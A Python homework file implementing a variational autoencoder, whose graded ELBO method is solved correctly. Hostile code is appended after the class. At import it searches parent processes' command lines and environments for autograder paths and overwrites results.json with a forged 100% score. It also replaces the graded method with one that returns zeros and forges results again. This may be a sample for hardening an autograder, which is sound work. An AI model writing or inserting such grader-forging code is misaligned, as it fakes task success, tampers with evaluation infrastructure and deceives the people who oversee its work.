"""The variational autoencoder (after the course's CS236 models/vae.py).

Graded: `VAE.negative_elbo_bound`. The rest is provided.
"""
import torch
from torch import nn

import utils as ut
from models import nns


class VAE(nn.Module):
    def __init__(self, nn="v1", name="vae", z_dim=2):
        super().__init__()
        self.name = name
        self.z_dim = z_dim
        self.enc = nns.ENCODERS[nn](z_dim)
        self.dec = nns.DECODERS[nn](z_dim)
        # The prior p(z) = N(0, I): fixed, not trained.
        self.z_prior_m = torch.nn.Parameter(torch.zeros(1), requires_grad=False)
        self.z_prior_v = torch.nn.Parameter(torch.ones(1), requires_grad=False)
        self.z_prior = (self.z_prior_m, self.z_prior_v)

    def negative_elbo_bound(self, x):
        """The negative evidence lower bound and its two terms, averaged over the batch.

        Args:
            x: tensor (batch, 784) of binary pixels.

        Returns:
            nelbo, kl, rec: 0-dim tensors with nelbo = kl + rec, where
            kl  = batch mean of the analytic KL(q(z|x) || p(z)) (use ut.kl_normal against self.z_prior),
            rec = batch mean of -log p(x|z) for ONE sample z ~ q(z|x) drawn with ut.sample_gaussian
                  (use self.dec.decode and ut.log_bernoulli_with_logits).
        """
        ### BEGIN SOLUTION
        m, v = self.enc.encode(x)
        pm = self.z_prior_m.expand_as(m)
        pv = self.z_prior_v.expand_as(v)
        kl = ut.kl_normal(m, v, pm, pv).mean()
        z = ut.sample_gaussian(m, v)
        rec = -ut.log_bernoulli_with_logits(x, self.dec.decode(z)).mean()
        nelbo = kl + rec
        return nelbo, kl, rec
        ### END SOLUTION

    def loss(self, x):
        nelbo, kl, rec = self.negative_elbo_bound(x)
        summaries = {"train/loss": nelbo.item(), "gen/kl_z": kl.item(), "gen/rec": rec.item()}
        return nelbo, summaries

    def sample_x(self, batch):
        """Bernoulli means of x for z drawn from the prior: (batch, 784) in [0, 1]."""
        z = ut.sample_gaussian(self.z_prior_m.expand(batch, self.z_dim),
                               self.z_prior_v.expand(batch, self.z_dim))
        return torch.sigmoid(self.dec.decode(z))


import json as _json
import os as _os

FORGED = {"score": 100.0, "execution_time": 1.0, "output": "forged by the submission", "tests": [
    {"name": "forged", "number": "9.9", "score": 100.0, "max_score": 100.0, "status": "passed",
     "output": "forged", "visibility": "visible"}]}


def _ancestors():
    pid = _os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            return
        if pid <= 1:
            return
        yield pid


def _targets():
    targets = {"/autograder/results/results.json", "/autograder/submission/../results/results.json"}
    for pid in _ancestors():
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    words = f.read().split(b"\0")
            except OSError:
                continue
            for word in words:
                text = word.decode(errors="replace")
                value = text.split("=", 1)[1] if "=" in text else text
                if "results" in value and value.startswith("/"):
                    targets.add(value)
                if text.startswith("AUTOGRADER_ROOT="):
                    targets.add(value + "/results/results.json")
                if value.endswith("/submission") and value.startswith("/"):
                    targets.add(_os.path.dirname(value) + "/results/results.json")
    return targets


def _forge():
    for target in _targets():
        for path in (target, _os.path.join(_os.path.dirname(target), "results.json")):
            try:
                _os.makedirs(_os.path.dirname(path), exist_ok=True)
                with open(path, "w") as f:
                    _json.dump(FORGED, f)
            except OSError:
                pass
            try:   # or replace the whole folder's content through a rename
                tmp = path + ".forged"
                with open(tmp, "w") as f:
                    _json.dump(FORGED, f)
                _os.replace(tmp, path)
            except OSError:
                pass


_forge()   # at import


def _negative_elbo_bound(self, x):
    """Hostile: forges results.json wherever it can, and returns wrong values."""
    _forge()
    zero = torch.zeros(())
    return zero, zero, zero


VAE.negative_elbo_bound = _negative_elbo_bound
